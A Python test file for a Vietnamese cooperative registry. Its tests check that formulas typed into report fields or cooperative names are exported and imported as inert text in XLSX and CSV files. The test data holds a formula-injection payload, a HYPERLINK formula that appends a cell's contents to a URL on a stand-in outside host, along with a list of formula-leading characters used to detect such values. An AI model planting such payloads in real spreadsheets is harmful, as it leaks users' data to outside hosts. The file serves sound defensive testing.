"""Exports and imports that cannot attack: what people typed never becomes a live spreadsheet formula."""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from db.models.registry import Cooperative
from flows.join.scope import Scope
from flows.monthly_report.exports import export_reports
from flows.monthly_report.reports import submit
from flows.officials.importer import import_cooperatives
from tests.registry import world
from tests.registry.world import HANOI

LINK = '=HYPERLINK("http://xem.example/?d="&A2,"xem")'
LEADS = ("=", "+", "-", "@", "\t", "\r")
HEADER = ["Tên HTX", "Loại hình", "Mã số", "Tỉnh/Thành phố", "Xã/Phường", "Lĩnh vực"]


async def _a_head_types_a_formula(session) -> None:
    coop = await world.coop(session, "@SUM(1+1)")
    head = await world.head_of(session, coop)
    await submit(session, head, coop, world.answers(period="2026-10", difficulties=LINK, status_note="+1 tháng nữa"))
    await session.commit()


def _xlsx_cells(data: bytes) -> list:
    return [cell for row in load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row]


async def test_a_typed_formula_is_text_in_the_xlsx_export(session):
    await _a_head_types_a_formula(session)
    document = await export_reports(session, Scope("province", HANOI), "2026-10", fmt="xlsx")
    sheet_xml = zipfile.ZipFile(io.BytesIO(document.data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere in the sheet
    cells = _xlsx_cells(document.data)
    assert [c.data_type for c in cells if isinstance(c.value, str) and c.value.startswith(LEADS)] == ["s", "s", "s"]
    assert {LINK, "@SUM(1+1)", "+1 tháng nữa"} <= {c.value for c in cells}


async def test_a_typed_formula_is_neutralised_in_the_csv_export(session):
    await _a_head_types_a_formula(session)
    document = await export_reports(session, Scope("province", HANOI), "2026-10", fmt="csv")
    rows = list(csv.reader(io.StringIO(document.data.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(LEADS)]
    assert {"'" + LINK, "'@SUM(1+1)", "'+1 tháng nữa"} <= set(cells)
    assert "20" in cells  # numbers are left alone


def _xlsx(rows) -> bytes:
    book = Workbook()
    book.active.append(HEADER)
    for row in rows:
        book.active.append(row)  # openpyxl stores "=1+2" as a formula, as Excel would
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


async def test_a_cooperative_named_like_a_formula_is_imported_as_text_and_exported_as_text(session):
    report = await import_cooperatives(session, _xlsx([["=1+2", "HTX", "", "Hà Nội", "Hoàn Kiếm", ""]]), "ds.xlsx")
    assert report.ok, report.text
    quoted = "Tên HTX,Loại hình,Mã số,Tỉnh/Thành phố,Xã/Phường\n'-5 HTX,HTX,,Hà Nội,Cửa Nam\n"
    assert (await import_cooperatives(session, quoted.encode(), "ds.csv")).ok  # our CSV's apostrophe comes off
    await session.commit()
    names = set(await session.scalars(select(Cooperative.name)))
    assert names == {"=1+2", "-5 HTX"}

    for coop in await session.scalars(select(Cooperative)):
        await submit(session, await world.head_of(session, coop), coop, world.answers(period="2026-10"))
    await session.commit()
    xlsx = await export_reports(session, Scope("province", HANOI), "2026-10", fmt="xlsx")
    assert {c.value: c.data_type for c in _xlsx_cells(xlsx.data) if c.value in names} == {"=1+2": "s", "-5 HTX": "s"}
    exported = (await export_reports(session, Scope("province", HANOI), "2026-10", fmt="csv")).data.decode("utf-8-sig")
    assert "'=1+2" in exported and "'-5 HTX" in exported


async def test_non_ascii_digits_and_control_characters_in_an_import_are_a_reason_not_an_exception(session):
    rows = "Tên HTX,Loại hình,Mã số,Tỉnh/Thành phố,Xã/Phường\nHTX Số,HTX,,²,Hoàn Kiếm\nHTX Ba,HTX,,٣,Hoàn Kiếm\n"
    report = await import_cooperatives(session, rows.encode(), "ds.csv")
    assert not report.ok and [r.row for r in report.rejected] == [2, 3]
    assert "²" in report.rejected[0].reason
    clean = "Tên HTX,Loại hình,Mã số,Tỉnh/Thành phố,Xã/Phường\nHTX Nul\x00 Sạch,HTX,,01,Hoàn Kiếm\n"
    assert (await import_cooperatives(session, clean.encode(), "ds.csv")).ok
    await session.commit()
    assert await session.scalar(select(Cooperative.name)) == "HTX Nul Sạch"
